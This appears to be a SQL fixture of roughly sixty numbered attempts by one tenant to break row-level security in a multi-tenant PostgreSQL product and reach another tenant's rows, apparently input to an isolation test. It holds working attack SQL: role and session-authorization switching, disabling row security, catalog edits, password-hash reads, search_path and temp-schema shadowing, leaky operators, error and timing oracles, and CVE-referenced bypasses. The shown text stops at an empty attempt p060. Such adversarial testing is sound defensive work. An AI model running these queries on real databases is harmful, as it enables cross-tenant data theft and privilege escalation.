-- Attempts of a tenant to get at another one's rows, written by somebody who had seen neither the policies nor the tables.
-- The format is that of escape_attempts.sql; sleeps are cut to 0.2 s, since what holds others up is tried in
-- test_tenants_apart.py.

-- family: by another author

-- attempt: p001: custom setting: SET sidemirror.tenant_id
SET sidemirror.tenant_id = '{foreign}';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p002: custom setting: SET sidemirror.tenant
SET sidemirror.tenant = '{foreign}';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p003: custom setting: SET app.tenant_id
SET app.tenant_id = '{foreign}';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p004: custom setting: SET LOCAL in a transaction
BEGIN;
SET LOCAL sidemirror.tenant_id = '{foreign}';
SET LOCAL sidemirror.current_tenant_id = '{foreign}';
SET LOCAL app.current_tenant_id = '{foreign}';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
COMMIT;

-- attempt: p005: custom setting: set_config for a wide list of guessed names
SELECT set_config(p||'.'||k, '{foreign}', false) FROM unnest(ARRAY['sidemirror','app','tenant','rls','session','request','auth','my','myapp','ctx','current','mirror','sm','jwt.claims']) p, unnest(ARRAY['tenant_id','tenant','current_tenant','current_tenant_id','tenantid','id','org_id','account_id','team','team_id','scope','bound_tenant','actor']) k;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p006: custom setting: names mined from the policies' own text, then set
SELECT m[1] AS name, set_config(m[1], '{foreign}', false) FROM pg_policies p, regexp_matches(coalesce(p.qual,'')||' '||coalesce(p.with_check,''), 'current_setting\(''([^'']+)''', 'g') m;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p007: custom setting: names mined from function sources, then set
SELECT m[1] AS name, set_config(m[1], '{foreign}', false) FROM pg_proc p, regexp_matches(p.prosrc, 'current_setting\(\s*''([^'']+)''', 'gi') m WHERE p.pronamespace NOT IN ('pg_catalog'::regnamespace,'information_schema'::regnamespace) AND m[1] LIKE '%.%';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p008: custom setting: forged write after mined names are set
SELECT set_config(m[1], '{foreign}', false) FROM (SELECT coalesce(qual,'')||coalesce(with_check,'') s FROM pg_policies UNION ALL SELECT prosrc FROM pg_proc WHERE pronamespace NOT IN ('pg_catalog'::regnamespace,'information_schema'::regnamespace)) x, regexp_matches(x.s, 'current_setting\(\s*''([^'']+\.[^'']+)''', 'gi') m;
INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('tenant_id', '{foreign}'))).* FROM sidemirror.memories t LIMIT 1;
INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('tenant_id', '{foreign}'))).* FROM sidemirror.memories t LIMIT 1 RETURNING tenant_id;
UPDATE sidemirror.memories SET tenant_id = '{own}' WHERE tenant_id::text = '{foreign}' RETURNING tenant_id, project_id;

-- attempt: p009: custom setting: empty value, hoping empty means unrestricted
SET sidemirror.tenant_id = '';
SET app.tenant_id = '';
SET sidemirror.tenant = '';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
SELECT t.tenant_id, count(*) FROM sidemirror.memories t GROUP BY 1;

-- attempt: p010: custom setting: wildcard values (%, *, all)
SET sidemirror.tenant_id = '%';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
SET sidemirror.tenant_id = '*';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
SET sidemirror.tenant_id = 'all';
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p011: custom setting: operator or bypass flags
SELECT set_config(n, v, false) FROM unnest(ARRAY['sidemirror.bypass','sidemirror.bypass_rls','sidemirror.is_operator','sidemirror.operator','sidemirror.admin','sidemirror.is_admin','sidemirror.superuser','sidemirror.internal','sidemirror.maintenance','app.bypass_rls','app.is_admin','app.admin','app.role']) n, unnest(ARRAY['true','on','1']) v;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
SELECT t.tenant_id, count(*) FROM sidemirror.memories t GROUP BY 1;

-- attempt: p012: custom setting: role name and user name settings
SELECT set_config(n, '{foreign_role}', false) FROM unnest(ARRAY['sidemirror.role','sidemirror.user','sidemirror.login','sidemirror.actor','app.user','app.current_user','request.jwt.claim.role','request.jwt.claim.sub']) n;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p013: custom setting: changed in the middle of a query, in WHERE
SELECT t::text FROM sidemirror.memories t WHERE set_config('sidemirror.tenant_id','{foreign}',false) IS NOT NULL AND set_config('app.tenant_id','{foreign}',false) IS NOT NULL LIMIT 50;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p014: custom setting: function with its own SET clause
CREATE FUNCTION pg_temp.as_other() RETURNS SETOF text LANGUAGE plpgsql SET sidemirror.tenant_id = '{foreign}' SET app.tenant_id = '{foreign}' AS $$ BEGIN RETURN QUERY SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20; END $$;
SELECT * FROM pg_temp.as_other();

-- attempt: p015: RESET ALL and DISCARD ALL to drop the binding
RESET ALL;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
DISCARD ALL;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
SELECT t.tenant_id, count(*) FROM sidemirror.memories t GROUP BY 1;

-- attempt: p016: RESET of single guessed settings
RESET sidemirror.tenant_id;
RESET app.tenant_id;
RESET ROLE;
RESET SESSION AUTHORIZATION;
SELECT t.tenant_id, count(*) FROM sidemirror.memories t GROUP BY 1;

-- attempt: p017: SET ROLE to the other tenant
SET ROLE {foreign_role};
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p018: SET ROLE to the operator
SET ROLE owner;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p019: SET ROLE to the operator, then write
SET ROLE owner;
UPDATE sidemirror.memories SET tenant_id = '{own}' WHERE tenant_id::text = '{foreign}' RETURNING tenant_id, project_id;
INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('tenant_id', '{foreign}'))).* FROM sidemirror.memories t LIMIT 1 RETURNING tenant_id;

-- attempt: p020: SET ROLE to every role there is
DO $$ DECLARE r record; BEGIN FOR r IN SELECT rolname FROM pg_roles WHERE rolname <> current_user LOOP BEGIN EXECUTE format('SET LOCAL ROLE %I', r.rolname); RAISE NOTICE 'became %', current_user; EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END $$;

-- attempt: p021: SET ROLE NONE and RESET ROLE back to a stronger login
SET ROLE NONE;
SELECT current_user, session_user;
SELECT t.tenant_id, count(*) FROM sidemirror.memories t GROUP BY 1;

-- attempt: p022: SET SESSION AUTHORIZATION to the other tenant
SET SESSION AUTHORIZATION {foreign_role};
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p023: SET SESSION AUTHORIZATION to operator and to postgres
SET SESSION AUTHORIZATION owner;
SELECT current_user, session_user;
SET SESSION AUTHORIZATION postgres;
SELECT current_user, session_user;

-- attempt: p024: SET SESSION AUTHORIZATION rolled back and mixed with SET ROLE in a parallel query (CVE-2024-10978)
BEGIN;
SET SESSION AUTHORIZATION DEFAULT;
SET LOCAL ROLE NONE;
SELECT current_user, session_user, current_setting('is_superuser');
ROLLBACK;
SELECT current_user, session_user, current_setting('role');
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p025: set_config of session_authorization and is_superuser
SELECT set_config('session_authorization','owner',false);
SELECT set_config('is_superuser','on',false);
SELECT current_user, current_setting('is_superuser');

-- attempt: p026: row_security off, then read
SET row_security = off;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
SELECT t::text FROM sidemirror.memories t LIMIT 20;

-- attempt: p027: row_security off in a function's SET clause
CREATE FUNCTION pg_temp.norls() RETURNS SETOF text LANGUAGE plpgsql SET row_security = off AS $$ BEGIN RETURN QUERY SELECT t::text FROM sidemirror.memories t; END $$;
SELECT * FROM pg_temp.norls() LIMIT 50;

-- attempt: p028: session_replication_role = replica to silence triggers and FKs
SET session_replication_role = replica;
INSERT INTO sidemirror.memories OVERRIDING SYSTEM VALUE SELECT (jsonb_populate_record(t, (SELECT coalesce(jsonb_object_agg(a.attname, CASE WHEN a.atttypid IN (20,21,23) THEN to_jsonb(900000000+(random()*99999)::int) ELSE to_jsonb(gen_random_uuid()) END), jsonb_build_object()) FROM pg_index i JOIN pg_attribute a ON a.attrelid=i.indrelid AND a.attnum=ANY(i.indkey) WHERE i.indrelid='sidemirror.memories'::regclass AND i.indisunique AND a.attname NOT IN ('tenant_id','project_id') AND a.atttypid IN (20,21,23,25,1043,2950)) || jsonb_build_object('tenant_id', '{foreign}'))).* FROM sidemirror.memories t LIMIT 1 RETURNING tenant_id;
UPDATE sidemirror.memories SET tenant_id = '{own}' WHERE tenant_id::text = '{foreign}' RETURNING tenant_id, project_id;

-- attempt: p029: allow_system_table_mods and a direct edit of pg_class and pg_authid
SET allow_system_table_mods = on;
UPDATE pg_catalog.pg_class SET relrowsecurity = false, relforcerowsecurity = false WHERE oid = 'sidemirror.memories'::regclass;
UPDATE pg_catalog.pg_authid SET rolbypassrls = true WHERE rolname = current_user;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p030: read pg_authid and pg_shadow
SELECT rolname, rolpassword FROM pg_authid;
SELECT usename, passwd FROM pg_shadow;
SELECT * FROM pg_user_mapping;

-- attempt: p031: pg_temp function SECURITY DEFINER owned by self
CREATE FUNCTION pg_temp.sd() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER AS $$ SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' $$;
SELECT * FROM pg_temp.sd();

-- attempt: p032: give a SECURITY DEFINER function to the operator by ALTER OWNER
CREATE FUNCTION pg_temp.sd2() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER AS $$ SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' $$;
ALTER FUNCTION pg_temp.sd2() OWNER TO owner;
SELECT * FROM pg_temp.sd2();

-- attempt: p033: function in public, overriding lower() by a closer argument type (CVE-2018-1058)
CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('ALTER ROLE %I BYPASSRLS', session_user); RETURN pg_catalog.lower($1::text); END $$;
SELECT proname, pronamespace::regnamespace FROM pg_proc WHERE proname='lower' AND pronamespace='public'::regnamespace;
DROP FUNCTION IF EXISTS public.lower(varchar);

-- attempt: p034: function in public named like the policy helpers, search_path turned to it
CREATE FUNCTION public.current_tenant() RETURNS text LANGUAGE sql AS $$ SELECT '{foreign}'::text $$;
CREATE FUNCTION public.current_tenant_id() RETURNS text LANGUAGE sql AS $$ SELECT '{foreign}'::text $$;
SET search_path = public, pg_catalog;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
DROP FUNCTION IF EXISTS public.current_tenant();
DROP FUNCTION IF EXISTS public.current_tenant_id();

-- attempt: p035: replace the product's helper functions
DO $$ DECLARE f record; BEGIN FOR f IN SELECT p.oid, pg_get_functiondef(p.oid) d FROM pg_proc p WHERE p.prokind='f' AND p.pronamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass) LOOP BEGIN EXECUTE f.d; RAISE NOTICE 'could replace %', f.oid::regprocedure; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', f.oid::regprocedure, SQLERRM; END; END LOOP; END $$;

-- attempt: p036: SECURITY DEFINER: call each with tenant B's id in every argument
DO $$ DECLARE p record; args text; r text; BEGIN FOR p IN SELECT oid, proname, pronamespace::regnamespace::text ns, proargtypes FROM pg_proc WHERE prosecdef AND prokind='f' AND prorettype NOT IN ('trigger'::regtype,'event_trigger'::regtype) AND has_function_privilege(oid,'execute') AND pronamespace <> 'pg_catalog'::regnamespace LOOP SELECT string_agg(format('%L::%s', '{foreign}', t::regtype), ',') INTO args FROM unnest(p.proargtypes) t; BEGIN FOR r IN EXECUTE format('SELECT f::text FROM %s.%I(%s) f', p.ns, p.proname, args) LOOP RAISE NOTICE '% -> %', p.proname, r; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%(%): %', p.proname, args, SQLERRM; END; END LOOP; END $$;

-- attempt: p037: SECURITY DEFINER: call each with a role name, a number, or SQL as arguments
DO $$ DECLARE p record; args text; v text; r text; BEGIN FOREACH v IN ARRAY ARRAY['{foreign_role}','1','x'' OR true --','sidemirror.memories'] LOOP FOR p IN SELECT oid, proname, pronamespace::regnamespace::text ns, proargtypes FROM pg_proc WHERE prosecdef AND prokind='f' AND pronargs>0 AND prorettype NOT IN ('trigger'::regtype,'event_trigger'::regtype) AND has_function_privilege(oid,'execute') AND pronamespace <> 'pg_catalog'::regnamespace LOOP SELECT string_agg(format('%L::%s', v, t::regtype), ',') INTO args FROM unnest(p.proargtypes) t; BEGIN FOR r IN EXECUTE format('SELECT f::text FROM %s.%I(%s) f', p.ns, p.proname, args) LOOP RAISE NOTICE '% -> %', p.proname, r; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', p.proname, SQLERRM; END; END LOOP; END LOOP; END $$;

-- attempt: p038: SECURITY DEFINER: binder functions called with guessed names
DO $$ DECLARE f text; BEGIN FOREACH f IN ARRAY ARRAY['set_tenant','bind_tenant','bind_role','set_current_tenant','use_tenant','switch_tenant','become_tenant','login_as'] LOOP BEGIN EXECUTE format('SELECT %I.%I(%L)', (SELECT nspname FROM pg_namespace WHERE oid = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass)), f, '{foreign}'); RAISE NOTICE 'called %', f; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', f, SQLERRM; END; BEGIN EXECUTE format('SELECT %I.%I(%L,%L)', (SELECT nspname FROM pg_namespace WHERE oid = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass)), f, current_user, '{foreign}'); RAISE NOTICE 'called %', f; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', f, SQLERRM; END; END LOOP; END $$;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p039: type squatting in pg_temp: domains uuid and text shadow casts in unpinned definer functions
CREATE FUNCTION pg_temp.who(pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'check ran as %', current_user; RETURN true; END $$;
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.who(VALUE));
CREATE DOMAIN pg_temp.uuid AS pg_catalog.uuid CHECK (pg_temp.who(VALUE::pg_catalog.text));
DO $$ DECLARE p record; BEGIN FOR p IN SELECT oid, proname, pronamespace::regnamespace::pg_catalog.text ns FROM pg_proc WHERE prosecdef AND prokind='f' AND pronargs=0 AND prorettype NOT IN ('trigger'::regtype,'event_trigger'::regtype) AND has_function_privilege(oid,'execute') LOOP BEGIN EXECUTE format('SELECT %s.%I()', p.ns, p.proname); EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;
SELECT count(*) FROM sidemirror.memories;

-- attempt: p040: shadow of binding tables: temp copies of every table with a role and a tenant column, remapped to B
DO $$ DECLARE r record; cols text; BEGIN FOR r IN SELECT c.oid, c.relname FROM pg_class c WHERE c.relkind IN ('r','p','v') AND c.relnamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass) AND EXISTS (SELECT 1 FROM pg_attribute WHERE attrelid=c.oid AND attname LIKE '%tenant%') AND EXISTS (SELECT 1 FROM pg_attribute WHERE attrelid=c.oid AND attname ~ 'role|user|login|member') LOOP SELECT string_agg(format('%I %s', attname, format_type(atttypid, atttypmod)), ',') INTO cols FROM pg_attribute WHERE attrelid=r.oid AND attnum>0 AND NOT attisdropped; EXECUTE format('CREATE TEMP TABLE %I (%s)', r.relname, cols); FOR cols IN SELECT attname FROM pg_attribute WHERE attrelid=r.oid AND attname LIKE '%tenant%' LIMIT 1 LOOP EXECUTE format('INSERT INTO pg_temp.%I SELECT (jsonb_populate_record(null::pg_temp.%I, (SELECT jsonb_object_agg(attname, CASE WHEN attname LIKE ''%%tenant%%'' THEN %L ELSE current_user::text END) FROM pg_attribute WHERE attrelid=%s AND (attname LIKE ''%%tenant%%'' OR (attname ~ ''role|user|login|member'' AND atttypid IN (''text''::regtype,''name''::regtype,''varchar''::regtype)))))).*', r.relname, r.relname, '{foreign}', r.oid); END LOOP; EXECUTE format('GRANT ALL ON pg_temp.%I TO PUBLIC', r.relname); RAISE NOTICE 'shadowed %', r.relname; END LOOP; END $$;
SET search_path = pg_temp, sidemirror, public;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p041: shadow of guessed binding tables in pg_temp
CREATE TEMP TABLE tenant_roles AS SELECT current_user::name AS role_name, current_user::name AS rolname, '{foreign}'::text AS tenant_id;
CREATE TEMP TABLE role_tenants AS TABLE tenant_roles;
CREATE TEMP TABLE tenant_logins AS TABLE tenant_roles;
CREATE TEMP TABLE bindings AS TABLE tenant_roles;
CREATE TEMP TABLE role_bindings AS TABLE tenant_roles;
CREATE TEMP TABLE memberships AS TABLE tenant_roles;
GRANT ALL ON pg_temp.tenant_roles, pg_temp.role_tenants, pg_temp.tenant_logins, pg_temp.bindings, pg_temp.role_bindings, pg_temp.memberships TO PUBLIC;
SET search_path = pg_temp, sidemirror, public;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p042: shadow of pg_roles, pg_auth_members and pg_db_role_setting in pg_temp
CREATE TEMP TABLE pg_roles AS SELECT * FROM pg_catalog.pg_roles;
UPDATE pg_temp.pg_roles SET rolbypassrls = true, rolsuper = true, rolconfig = ARRAY['sidemirror.tenant_id={foreign}'] WHERE rolname = current_user;
CREATE TEMP TABLE pg_db_role_setting AS SELECT * FROM pg_catalog.pg_db_role_setting;
GRANT ALL ON pg_temp.pg_roles, pg_temp.pg_db_role_setting TO PUBLIC;
SET search_path = pg_temp, pg_catalog, public;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p043: shadow of the table itself in pg_temp, so that the app's definer functions read ours
DO $$ DECLARE n text; cols text; BEGIN SELECT relname INTO n FROM pg_class WHERE oid='sidemirror.memories'::regclass; SELECT string_agg(format('%I %s', attname, format_type(atttypid, atttypmod)), ',') INTO cols FROM pg_attribute WHERE attrelid='sidemirror.memories'::regclass AND attnum>0 AND NOT attisdropped; EXECUTE format('CREATE TEMP TABLE %I (%s)', n, cols); EXECUTE format('INSERT INTO pg_temp.%I SELECT (jsonb_populate_record(null::pg_temp.%I, jsonb_build_object(''tenant_id'', %L))).*', n, n, '{foreign}'); EXECUTE format('GRANT ALL ON pg_temp.%I TO PUBLIC', n); END $$;
DO $$ DECLARE p record; BEGIN FOR p IN SELECT oid, proname, pronamespace::regnamespace::text ns FROM pg_proc WHERE prosecdef AND prokind='f' AND pronargs=0 AND prorettype NOT IN ('trigger'::regtype,'event_trigger'::regtype) AND has_function_privilege(oid,'execute') LOOP BEGIN EXECUTE format('SELECT %s.%I()', p.ns, p.proname); RAISE NOTICE 'ran %', p.proname; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;

-- attempt: p044: search_path: own schema with shadow operators for = on the tenant's type
CREATE SCHEMA evil;
CREATE FUNCTION evil.yes(text,text) RETURNS boolean LANGUAGE sql IMMUTABLE AS $$ SELECT true $$;
CREATE OPERATOR evil.= (LEFTARG=text, RIGHTARG=text, FUNCTION=evil.yes);
SET search_path = evil, pg_catalog, sidemirror, public;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
DROP SCHEMA IF EXISTS evil CASCADE;

-- attempt: p045: search_path: own schema with current_setting and session helpers
CREATE SCHEMA evil2;
CREATE FUNCTION evil2.current_setting(text, boolean) RETURNS text LANGUAGE sql AS $$ SELECT '{foreign}'::text $$;
CREATE FUNCTION evil2.current_setting(text) RETURNS text LANGUAGE sql AS $$ SELECT '{foreign}'::text $$;
SET search_path = evil2, pg_catalog, sidemirror, public;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;
DROP SCHEMA IF EXISTS evil2 CASCADE;

-- attempt: p046: search_path: CREATE SCHEMA with schema elements, defeating pinned paths (CVE-2023-2454)
CREATE SCHEMA evil3 CREATE TABLE t3 (x int) CREATE VIEW v3 AS SELECT * FROM sidemirror.memories;
SELECT nspname, nspowner::regrole FROM pg_namespace WHERE nspname='evil3';
CREATE SCHEMA AUTHORIZATION owner;
DROP SCHEMA IF EXISTS evil3 CASCADE;

-- attempt: p047: temp schema squatting: look into other sessions' temp tables
SELECT c.oid::regclass, c.relowner::regrole, c.reltuples FROM pg_class c JOIN pg_namespace n ON n.oid=c.relnamespace WHERE n.nspname LIKE 'pg\_temp\_%';
DO $$ DECLARE r record; x text; BEGIN FOR r IN SELECT c.oid::regclass n FROM pg_class c WHERE c.relpersistence='t' AND c.relkind='r' AND c.relowner <> (SELECT oid FROM pg_roles WHERE rolname=current_user) LOOP BEGIN FOR x IN EXECUTE format('SELECT t::text FROM %s t LIMIT 5', r.n) LOOP RAISE NOTICE '%: %', r.n, x; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%', SQLERRM; END; END LOOP; END $$;

-- attempt: p048: temp schema squatting: create inside another session's pg_temp_N
DO $$ DECLARE n text; BEGIN FOR n IN SELECT nspname FROM pg_namespace WHERE nspname LIKE 'pg\_temp\_%' AND oid <> pg_my_temp_schema() LOOP BEGIN EXECUTE format('CREATE TABLE %I.tenant_roles (role_name name, tenant_id text)', n); RAISE NOTICE 'squatted %', n; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', n, SQLERRM; END; END LOOP; END $$;

-- attempt: p049: temp schema squatting: a temp table named as the helper's context table
CREATE TEMP TABLE tenant_context (tenant_id text);
INSERT INTO pg_temp.tenant_context VALUES ('{foreign}');
CREATE TEMP TABLE session_context AS TABLE tenant_context;
CREATE TEMP TABLE current_tenant AS TABLE tenant_context;
GRANT ALL ON pg_temp.tenant_context, pg_temp.session_context, pg_temp.current_tenant TO PUBLIC;
SELECT t::text FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' LIMIT 20;

-- attempt: p050: leaky function in WHERE with the lowest cost
CREATE FUNCTION pg_temp.leak(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN RAISE NOTICE 'LEAK %', $1; RETURN true; END $$;
SELECT count(*) FROM sidemirror.memories t WHERE pg_temp.leak(t::text);

-- attempt: p051: leaky function declared LEAKPROOF
CREATE FUNCTION pg_temp.leakp(text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 LEAKPROOF AS $$ BEGIN RAISE NOTICE 'LEAK %', $1; RETURN true; END $$;
SELECT count(*) FROM sidemirror.memories t WHERE pg_temp.leakp(t::text);

-- attempt: p052: leaky operator with own cheap function
CREATE FUNCTION pg_temp.lop(text,text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$ BEGIN RAISE NOTICE 'LEAK %', $1; RETURN true; END $$;
CREATE OPERATOR pg_temp.<<< (LEFTARG=text, RIGHTARG=text, FUNCTION=pg_temp.lop, RESTRICT=eqsel);
SELECT count(*) FROM sidemirror.memories t WHERE t.tenant_id::text OPERATOR(pg_temp.<<<) 'x';

-- attempt: p053: leak at plan time: own operator with a selectivity estimator fed from statistics (CVE-2017-7484, CVE-2019-10130, CVE-2025-8713)
CREATE FUNCTION pg_temp.pl(text,text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RAISE NOTICE 'STAT % %', $1, $2; RETURN true; END $$;
CREATE OPERATOR pg_temp.<<<= (LEFTARG=text, RIGHTARG=text, FUNCTION=pg_temp.pl, RESTRICT=scalarltsel, JOIN=scalarltjoinsel);
EXPLAIN SELECT * FROM sidemirror.memories t WHERE t.tenant_id::text OPERATOR(pg_temp.<<<=) 'x';
DO $$ DECLARE c text; BEGIN FOR c IN SELECT attname FROM pg_attribute WHERE attrelid='sidemirror.memories'::regclass AND attnum>0 AND atttypid IN ('text'::regtype,'varchar'::regtype) LOOP EXECUTE format('EXPLAIN SELECT * FROM sidemirror.memories t WHERE t.%I OPERATOR(pg_temp.<<<=) %L', c, 'x'); END LOOP; END $$;

-- attempt: p054: error that carries the value: cast of the row to integer
SELECT 1 FROM sidemirror.memories t WHERE (t::text)::int = 1;
SELECT 1 FROM sidemirror.memories t WHERE t.tenant_id::text = '{foreign}' AND (to_jsonb(t)::text)::int > 0;

-- attempt: p055: error that carries the value: cast on each text column alone
DO $$ DECLARE c text; BEGIN FOR c IN SELECT attname FROM pg_attribute WHERE attrelid='sidemirror.memories'::regclass AND attnum>0 AND NOT attisdropped LOOP BEGIN EXECUTE format('SELECT 1 FROM sidemirror.memories t WHERE t.tenant_id::text <> %L AND (t.%I::text||%L)::int = 1', '{own}', c, 'x'); EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', c, SQLERRM; END; END LOOP; END $$;

-- attempt: p056: error as a yes-or-no oracle: division by zero only where B has rows
SELECT 1/(CASE WHEN t.tenant_id::text = '{foreign}' THEN 0 ELSE 1 END) FROM sidemirror.memories t;
SELECT count(*) FROM sidemirror.memories t WHERE 1/(CASE WHEN t.tenant_id::text = '{foreign}' THEN 0 ELSE 1 END) = 1;

-- attempt: p057: timing oracle: pg_sleep for rows of B
SELECT count(*) FROM sidemirror.memories t WHERE CASE WHEN t.tenant_id::text = '{foreign}' THEN pg_sleep(0.05)::text IS NOT NULL ELSE true END;
SELECT clock_timestamp() - statement_timestamp() AS elapsed;

-- attempt: p058: every relation and view that is readable, searched for B's id
SELECT c.oid::regclass, c.relkind, c.relowner::regrole, c.reloptions, query_to_xml(format('SELECT * FROM %s q WHERE q::text LIKE %L LIMIT 20', c.oid::regclass, '%{foreign}%'), true, true, '') AS hit FROM pg_class c WHERE c.relkind IN ('r','v','m','p','f') AND c.relnamespace NOT IN ('pg_catalog'::regnamespace,'information_schema'::regnamespace) AND c.relpersistence <> 't' AND has_schema_privilege(c.relnamespace,'usage') AND has_table_privilege(c.oid,'select');

-- attempt: p059: views without security_invoker, owned by a stronger role
SELECT c.oid::regclass, c.relowner::regrole, c.reloptions, pg_get_viewdef(c.oid) FROM pg_class c WHERE c.relkind IN ('v','m') AND c.relnamespace NOT IN ('pg_catalog'::regnamespace,'information_schema'::regnamespace);
DO $$ DECLARE v record; x text; BEGIN FOR v IN SELECT oid::regclass n FROM pg_class WHERE relkind='v' AND relnamespace = (SELECT relnamespace FROM pg_class WHERE oid = 'sidemirror.memories'::regclass) LOOP BEGIN FOR x IN EXECUTE format('SELECT q::text FROM %s q LIMIT 50', v.n) LOOP RAISE NOTICE '%: %', v.n, x; END LOOP; EXCEPTION WHEN OTHERS THEN RAISE NOTICE '%: %', v.n, SQLERRM; END; END LOOP; END $$;

-- attempt: p060: writing through an auto-updatable view without CHECK OPTION
